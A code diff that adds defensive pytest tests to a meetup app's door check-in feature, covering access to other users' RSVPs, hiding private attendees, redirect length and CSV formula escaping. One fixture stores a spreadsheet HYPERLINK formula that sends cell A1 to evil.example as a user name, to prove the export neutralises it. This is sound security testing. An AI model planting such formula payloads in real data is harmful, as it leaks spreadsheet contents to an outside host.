@@ -1,11 +1,15 @@
 """Check-in at the door, tickets with QR codes, and the attendance record."""
 
+import csv
+import io
+import re
 from datetime import timedelta
 
+import pytest
 from sqlalchemy import select
 
 from meetup.extensions import db
-from meetup.models import RSVP, Event, RSVPStatus, utcnow
+from meetup.models import RSVP, Event, RSVPStatus, User, utcnow
 from tests.conftest import login, submit
 
 
@@ -137,3 +141,112 @@ def test_only_organisers_reach_check_in(app, client, make_user, make_group, add_
     assert response.status_code == 403
     with app.app_context():
         assert db.session.scalar(select(RSVP.id)) is None
+
+
+def outsiders_own_event(app, make_user, make_group, make_event):
+    """Someone who made a club of their own, and a stranger to it."""
+    victim_id, _ = make_user("victim@example.com", name="Vera Fremd")
+    make_user("mallory@example.com", name="Mallory")
+    from tests.conftest import get_user
+    slug = make_group(get_user(app, "mallory@example.com").id, "Eigener Club")
+    return victim_id, make_event(slug)
+
+
+@pytest.mark.parametrize("user_id", ["victim", "99999999999999999999", "2147483648"])
+def test_organisers_cannot_reach_strangers_at_the_door(app, client, make_user, make_group,
+                                                       make_event, user_id):
+    victim_id, event_id = outsiders_own_event(app, make_user, make_group, make_event)
+    target = str(victim_id) if user_id == "victim" else user_id
+    login(client, "mallory@example.com")
+    page = f"/events/{event_id}/check-in"
+    for url in (f"{page}/{target}", f"{page}/{target}/undo",
+                f"/events/{event_id}/attendees/{target}/going"):
+        if url.endswith(f"/{target}"):
+            response = client.get(url)
+            assert response.status_code == 404
+            assert "Vera Fremd" not in response.get_data(as_text=True)
+        response = submit(client, url, {}, page=page)
+        assert response.status_code == 404, url
+        assert "Vera Fremd" not in response.get_data(as_text=True)
+    response = submit(client, f"/events/{event_id}/walk-in", {"user_id": target}, page=page,
+                      follow_redirects=True)
+    html = response.get_data(as_text=True)
+    assert response.status_code == 200 and "Vera Fremd" not in html
+    assert "Bitte wählen Sie ein Mitglied" in html
+    with app.app_context():
+        assert db.session.scalar(select(RSVP.id)) is None
+    # Nothing opened up: the stranger's events stay their own.
+    victim = app.test_client()
+    login(victim, "victim@example.com")
+    assert "Stammtisch" not in victim.get("/events/mine").get_data(as_text=True)
+
+
+def test_hidden_attendees_are_not_named_at_the_door(app, client, make_user, make_group,
+                                                    add_member, make_event):
+    slug, member_id, walk_in_id, event_id = setup_event(make_user, make_group, add_member,
+                                                        make_event)
+    with app.app_context():
+        db.session.add(RSVP(event_id=event_id, user_id=member_id, hidden=True))
+        db.session.get(User, member_id).name = "Hanna Heimlich"
+        db.session.commit()
+    login(client, "owner@example.com")
+    page = f"/events/{event_id}/check-in"
+    target = f"{page}/{member_id}"
+    html = client.get(target).get_data(as_text=True)
+    assert "Hanna" not in html and "Einlassen" in html
+    response = submit(client, target, {}, page=target, follow_redirects=True)
+    html = response.get_data(as_text=True)
+    assert "Das Ticket ist eingelassen." in html and "Hanna" not in html.split("walk-in")[0]
+    with app.app_context():
+        assert db.session.scalar(select(RSVP.checked_in_at).filter_by(
+            user_id=member_id)) is not None
+    # A member not registered looks the same: the page does not tell them apart.
+    def shown(user_id):
+        html = client.get(f"{page}/{user_id}").get_data(as_text=True)
+        html = re.sub(r'name="csrf_token" value="[^"]+"', "", html)
+        return html.replace(f"check-in/{user_id}", "check-in/ID")
+
+    assert shown(walk_in_id) == shown(member_id)
+    # No list of members to subtract the named attendees from; searching her
+    # name finds her like any member not registered.
+    assert "Walter" not in client.get(page).get_data(as_text=True)
+    for name, user_id in (("Hanna Heimlich", member_id), ("Walter Spontan", walk_in_id)):
+        found = client.get(f"{page}?q={name.split()[0]}").get_data(as_text=True)
+        assert f'value="{user_id}">{name}' in found.split('id="walk-in"')[1]
+
+
+def test_a_long_search_is_not_reflected_into_the_redirect(app, client, make_user, make_group,
+                                                          add_member, make_event):
+    slug, member_id, _walk, event_id = setup_event(make_user, make_group, add_member,
+                                                   make_event)
+    with app.app_context():
+        db.session.add(RSVP(event_id=event_id, user_id=member_id))
+        db.session.commit()
+    login(client, "owner@example.com")
+    page = f"/events/{event_id}/check-in"
+    response = submit(client, f"{page}/{member_id}", {"q": "m" * 100_000}, page=page)
+    assert response.status_code == 302
+    assert len(response.headers["Location"]) < 300
+    assert "q=" + "m" * 100 in response.headers["Location"]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_attendee_csv_cells_are_never_formulas(app, client, make_user, make_group, add_member,
+                                               make_event, start):
+    slug, member_id, _walk, event_id = setup_event(make_user, make_group, add_member,
+                                                   make_event)
+    with app.app_context():
+        db.session.add(RSVP(event_id=event_id, user_id=member_id))
+        person = db.session.get(User, member_id)
+        person.name = f'{start}HYPERLINK("https://evil.example/?"&A1;"Klick")'
+        person.company = f"{start}1+1"
+        person.headline = "Ganz normal - mit Strich"
+        db.session.commit()
+    login(client, "owner@example.com")
+    text = client.get(f"/events/{event_id}/attendees.csv").get_data(as_text=True)
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert f"'{start}1+1" in cells
+    assert any(cell.startswith(f"'{start}HYPERLINK") for cell in cells)
+    assert "Ganz normal - mit Strich" in cells  # only a leading sign is a formula
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
